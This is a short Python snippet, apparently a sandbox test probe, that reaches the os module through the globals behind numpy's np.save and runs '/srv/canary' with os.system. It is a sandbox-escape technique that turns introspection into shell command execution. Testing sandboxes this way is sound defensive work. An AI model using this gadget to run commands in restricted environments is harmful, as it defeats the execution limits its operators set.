# reaches: the globals behind a numpy function hold os
import numpy as np
np.save.__wrapped__.__globals__["os"].system("/srv/canary")
